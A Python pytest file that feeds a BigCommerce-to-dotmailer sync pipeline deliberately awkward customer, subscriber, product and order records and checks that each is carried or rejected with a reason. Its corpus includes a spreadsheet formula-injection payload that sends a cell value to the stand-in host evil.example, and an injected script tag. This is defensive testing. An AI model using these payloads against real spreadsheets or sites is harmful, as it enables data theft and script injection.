"""A hostile corpus in the API's own shapes: the sync succeeds, and each record is carried correctly or listed
with its reason where a user can see it (the warehouse's rejection tables and `bc-pipeline status`)."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import duckdb

from bc_pipeline.paths import pipeline_home
from bc_pipeline.sync_runner import run_sync
from bc_pipeline_tests.pipeline.expected import book_members, key
from bc_pipeline_tests.reliability.harness import CUSTOMERS_BOOK, SUBSCRIBERS_BOOK, fast_defs, settle

BC_PIPELINE = Path(sys.executable).with_name("bc-pipeline")
SMALL_STORE = dict(customers=20, subscribers=20, orders=30, products=10)
CONSENT = ["marketing_newsletter"]

EMOJI_RTL = "Zoë 😀🎉 שלום مرحبا"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
LONG_NAME = "N" * 10_000
CONTROL = "Bad\x00\x07\x1bName\r\n"
HTML_100KB = "<p>" + "Lorem <b>ipsum</b> &amp; dolor. " * 3300 + "</p><script>alert('x')</script>"

CUSTOMERS = [
    {"id": 90001, "email": "plus+tag@example.com", "first_name": "Ann", "last_name": "Plus"},
    {"id": 90002, "email": '"quoted name"@example.com', "first_name": "Quinn", "last_name": "Quoted"},
    {"id": 90003, "email": "user@bücher.example", "first_name": "Uma", "last_name": "Unicode"},
    {"id": 90004, "email": "  trailing@example.com  ", "first_name": "Tess", "last_name": "Spaces"},
    {"id": 90005, "email": "Dup.Case@Example.com", "first_name": "Dana", "last_name": "Upper"},
    {"id": 90006, "email": "dup.case@example.com", "first_name": "Dana", "last_name": "Lower"},
    {"id": 90007, "email": "not-an-email", "first_name": "Ivan", "last_name": "Invalid"},
    {"id": 90008, "email": "two@@example.com", "first_name": "Ivy", "last_name": "Invalid"},
    {"id": 90009, "email": "empty.names@example.com", "first_name": "", "last_name": ""},
    {"id": 90010, "email": "long.name@example.com", "first_name": LONG_NAME, "last_name": "Long"},
    {"id": 90011, "email": "emoji.rtl@example.com", "first_name": EMOJI_RTL, "last_name": "مرحبا"},
    {"id": 90012, "email": "formula@example.com", "first_name": FORMULA, "last_name": "=1+1"},
    {"id": 90013, "email": "control@example.com", "first_name": CONTROL, "last_name": "Ctl\t"},
    {"id": 90014, "email": "ten.addresses@example.com", "first_name": "Ten", "last_name": "Addresses",
     "addresses": [{"address1": f"{n} High Street", "city": "Leeds", "postal_code": f"LS{n} 1AA",
                    "country_code": "GB"} for n in range(1, 11)]},
]
SUBSCRIBERS = [
    {"id": 95001, "email": "lonely.subscriber@example.com", "consents": CONSENT},
    {"id": 95002, "email": "DUP.CASE@example.com", "consents": CONSENT},
    {"id": 95003, "email": "sub@invalid", "consents": CONSENT},
]
PRODUCTS = [
    {"id": 90001, "name": "Huge description", "price": 12.5, "description": HTML_100KB},
    {"id": 90002, "name": EMOJI_RTL, "price": 0, "description": None},
]


def _line(product_id: int, price: str, quantity: int = 1) -> dict:
    return {"product_id": product_id, "name": f"Item {product_id}", "sku": f"SKU-{product_id}",
            "price_ex_tax": price, "quantity": quantity}


def _guest(email: str) -> dict:
    return {"first_name": "Guest", "last_name": "Buyer", "email": email, "street_1": "1 Road", "street_2": None,
            "city": "York", "state": "", "zip": "YO1 1AA", "country": "United Kingdom", "country_iso2": "GB"}


ORDERS = [
    {"id": 90001, "customer_id": 90001, "line_items": [_line(90001, "1.00") for _ in range(300)]},
    {"id": 90002, "customer_id": 0, "billing_address": _guest("guest+zero@example.com"),
     "line_items": [_line(90002, "0.00")], **{f: "0.0000" for f in ("total_inc_tax", "total_ex_tax",
                                                                     "shipping_cost_inc_tax", "base_shipping_cost")}},
    {"id": 90003, "customer_id": 90011, "line_items": [_line(90001, "-10.00")], "total_inc_tax": "-10.0000",
     "total_ex_tax": "-10.0000", "shipping_cost_inc_tax": "0.0000"},
    {"id": 90004, "customer_id": 90009, "currency_code": "XYZ", "default_currency_code": "XYZ",
     "line_items": [_line(90001, "5.00")]},
    {"id": 90005, "customer_id": 0, "billing_address": _guest("guest-at-nowhere"),
     "line_items": [_line(90001, "5.00")]},
]
CORPUS = {"customers": CUSTOMERS, "subscribers": SUBSCRIBERS, "products": PRODUCTS, "orders": ORDERS}


def _query(sql: str) -> list[tuple]:
    with duckdb.connect(str(pipeline_home() / "warehouse.duckdb"), read_only=True) as conn:
        return conn.execute(sql).fetchall()


def _rejections() -> dict[str, str]:
    """email key -> reason, from every table a user is pointed to for rejected contacts."""
    return dict(_query("SELECT email_key, reason FROM dotmailer.rejected_contacts UNION ALL "
                       "SELECT email_key, reason FROM dotmailer.load_failures"))


def _carried_or_rejected(emails, members: dict, rejected: dict) -> list[str]:
    return [f"{email!r}: neither in {CUSTOMERS_BOOK} nor rejected with a reason" for email in emails
            if key(email) not in members and not rejected.get(key(email))]


def test_a_hostile_corpus_is_carried_or_rejected_with_reasons(start_pipeline, tmp_path):
    pipeline = start_pipeline(bigcommerce=SMALL_STORE)
    pipeline.bigcommerce.load(CORPUS)
    settle(pipeline.pair)

    summary = run_sync(fast_defs())

    assert summary.success, summary.failure
    rejected = _rejections()
    customers = book_members(pipeline.dotmailer, CUSTOMERS_BOOK)
    subscribers = book_members(pipeline.dotmailer, SUBSCRIBERS_BOOK)
    state = pipeline.dotmailer.state()
    insight = {name: {r["key"]: r["json"] for r in records} for name, records in state["insight"].items()}

    # Every email either arrived or is listed with its reason; none is silently dropped.
    every_email = [c["email"] for c in CUSTOMERS] + [s["email"] for s in SUBSCRIBERS] + ["guest+zero@example.com"]
    assert _carried_or_rejected(every_email, customers, rejected) == []
    for invalid in ("not-an-email", "two@@example.com", "sub@invalid"):
        assert invalid not in customers and rejected.get(invalid), invalid

    # Odd but valid: carried exactly, trimmed, and one contact per address whatever its case.
    assert customers["plus+tag@example.com"]["dataFields"]["FIRSTNAME"] == "Ann"
    assert customers["trailing@example.com"]["email"] == "trailing@example.com"
    assert customers["emoji.rtl@example.com"]["dataFields"]["FIRSTNAME"] == EMOJI_RTL
    assert [key(c["email"]) for c in state["contacts"]].count("dup.case@example.com") == 1
    assert {"dup.case@example.com", "lonely.subscriber@example.com"} <= set(subscribers)
    assert "empty.names@example.com" in customers
    # A value that looks like a formula is data: carried as it is (dotmailer is fed JSON, not a spreadsheet).
    assert customers["formula@example.com"]["dataFields"]["FIRSTNAME"] == FORMULA
    long_name = customers.get("long.name@example.com", {}).get("dataFields", {}).get("FIRSTNAME")
    assert long_name is None or long_name == LONG_NAME[: len(long_name)] and len(long_name) <= 255

    # Orders: 300 lines, zero and negative totals, an unknown currency; a guest without a usable email is listed.
    orders = insight.get("Orders", {})
    assert len(orders["90001"]["products"]) == 300
    assert orders["90002"]["orderTotal"] == 0.0
    assert orders["90003"]["orderTotal"] == -10.0
    assert orders["90004"]["currency"] == "XYZ"
    rejected_orders = dict(_query("SELECT key, reason FROM dotmailer.rejected_orders"))
    assert "90005" not in orders and rejected_orders.get("90005")

    # 100 KB of HTML becomes at most 1000 characters of text; no markup or script survives.
    description = insight["Catalog_Default"]["90001"]["description"]
    assert 0 < len(description) <= 1000 and "<" not in description and "alert" not in description
    assert insight["Catalog_Default"]["90002"]["name"] == EMOJI_RTL

    assert _query("SELECT count(*) FROM bigcommerce.customer_addresses WHERE customer_id = 90014") == [(10,)]

    status = subprocess.run([str(BC_PIPELINE), "status"], capture_output=True, text=True, timeout=120,
                            cwd=tmp_path)
    assert status.returncode == 0, status.stderr
    rejected_line = next(line for line in status.stdout.splitlines() if line.startswith("Rejected rows"))
    assert any(reason in rejected_line for reason in rejected.values()), rejected_line
